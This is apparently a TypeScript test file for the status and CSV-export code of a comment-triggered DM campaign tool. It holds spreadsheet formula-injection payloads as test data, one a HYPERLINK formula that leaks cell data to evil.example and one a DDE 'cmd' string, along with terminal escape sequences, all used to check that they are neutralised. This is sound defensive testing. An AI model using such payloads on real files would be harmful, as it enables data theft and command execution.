import { CampaignSpec, Ledger, SqlLedger } from "@comment-dm/core"
import * as SqliteLedger from "@comment-dm/core/sqlite"
import { assert, describe, it } from "@effect/vitest"
import { Effect, Layer } from "effect"
import * as Status from "../src/Status.js"

const entry = (fields: Partial<Ledger.LedgerEntry>): Ledger.LedgerEntry => ({
  campaign: "c",
  platform: "instagram",
  userId: "1",
  step: "first_message",
  path: "dm",
  username: "anna",
  postId: "p",
  commentId: "k",
  commentText: "guide",
  commentTime: undefined,
  keyword: "guide",
  state: "sent",
  reason: undefined,
  message: "hi",
  messageId: "m",
  campaignVersion: undefined,
  attempts: 1,
  claimedAt: undefined,
  claimedBy: undefined,
  leaseUntil: undefined,
  settledAt: undefined,
  firstSeenAt: new Date(0),
  updatedAt: new Date(0),
  ...fields
})

/** The comment_text cell (the 15th, before message, step and path) of a row whose other cells hold no comma or quote. */
const commentCell = (text: string) => Status.csvRow(entry({ commentText: text })).split(",").slice(14, -3).join(",")

describe("Status.csvRow", () => {
  it("prefixes a cell that a spreadsheet would run as a formula with a single quote, and quotes it", () => {
    for (const risky of ["=1+2", "+1", "-1", "@SUM(A1)", "\tguide", "\rguide"]) {
      assert.strictEqual(commentCell(risky), `"'${risky}"`)
    }
    assert.strictEqual(
      commentCell(`=HYPERLINK("http://evil.example/?d="&A1,"guide")`),
      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""guide"")"`
    )
    assert.include(Status.csvRow(entry({ username: "=cmd|' /C calc'!A0" })), `,"'=cmd|' /C calc'!A0",`)
  })

  it("leaves other cells as they are, quoting only those with a quote, comma or line break", () => {
    assert.strictEqual(commentCell("guide = yes"), "guide = yes")
    assert.strictEqual(commentCell("a, b"), `"a, b"`)
    assert.strictEqual(commentCell("say \"hi\"\nthen"), `"say ""hi""\nthen"`)
    assert.strictEqual(commentCell(""), "")
  })
})

describe("Status.render", () => {
  it("escapes controls in usernames and reasons, so a newline cannot forge a line", () => {
    const text = Status.render({
      campaign: "c",
      matched: 1,
      counts: { pending: 0, claimed: 0, sent: 0, refused: 1, in_doubt: 1 },
      unaccounted: 0,
      refused_reasons: [{ reason: "closed\u001b[2J", count: 1 }],
      skipped_reasons: [],
      sent_by_path: {},
      pending_reasons: [],
      unrecorded_reasons: [{ reason: "invalid byte\u0000\u009b2J", count: 1 }],
      in_doubt: [{ user_id: "1", username: "fake\nsent to @x (9)\u202e", reason: "timeout" }],
      last_conversations_read: { conversations: 3, read_at: "2026-12-06T06:00:00.000Z" },
      next: "`run` will do nothing",
      steps: {
        public_reply: {
          base: 2,
          counts: { sent: 1, skipped: 1 },
          unaccounted: 0,
          skipped_reasons: [{ reason: "taken\u001b[2J", count: 1 }]
        }
      }
    })
    assert.include(text, "public reply: people whose first message was sent: 2, 0 unaccounted")
    assert.include(text, "1 × taken\\u001b[2J")
    assert.include(text, "1 × closed\\u001b[2J")
    assert.include(text, "1 × invalid byte\\u0000\\u009b2J")
    assert.include(text, "last conversations answer: 3 conversations")
    assert.include(text, "@fake\\u000asent to @x (9)\\u202e (1): timeout")
    assert.notMatch(text, /^sent to/m)
    assert.notInclude(text, "\u001b")
    assert.notInclude(text, "\u009b")
  })
})

describe("Status.report", () => {
  it.effect("counts every state of the first message, so that people skipped or expired are accounted for", () =>
    Effect.gen(function*() {
      const spec = yield* CampaignSpec.make({
        name: "states",
        platform: "instagram",
        user: "demo",
        posts: ["p"],
        message: "Hi"
      })
      const ledger = yield* Ledger.Ledger
      const person = (userId: string, step: Ledger.StepKind = "first_message") => ({
        campaign: spec.name,
        platform: "instagram",
        userId,
        step,
        username: undefined,
        postId: "p",
        commentId: `c-${userId}`,
        commentText: "guide",
        commentTime: undefined,
        keyword: "guide"
      })
      yield* ledger.discover([person("1"), person("2"), person("3"), person("1", "public_reply")])
      const claim: Ledger.ClaimOptions = { message: "Hi", runner: "r", lease: "1 minute" }
      for (
        const [userId, settlement] of [
          ["1", Ledger.Settlement.Skipped({ reason: "window_closed" })],
          ["2", Ledger.Settlement.Expired({ reason: "past its deadline" })]
        ] as const
      ) {
        assert.isTrue(yield* ledger.claim(person(userId), claim))
        assert.isTrue(yield* ledger.settle(person(userId), "r", settlement))
      }
      const report = yield* Status.report(spec)
      assert.strictEqual(report.matched, 3, "the first message's base is every matching person")
      assert.strictEqual(report.unaccounted, 0)
      assert.deepStrictEqual(report.counts, {
        pending: 1,
        claimed: 0,
        sent: 0,
        refused: 0,
        in_doubt: 0,
        skipped: 1,
        expired: 1
      })
      const text = Status.render(report)
      assert.include(text, "  skipped    1")
      assert.include(text, "  expired    1")
    }).pipe(Effect.provide(SqlLedger.layer.pipe(Layer.provideMerge(SqliteLedger.layerClientMemory())))))
})
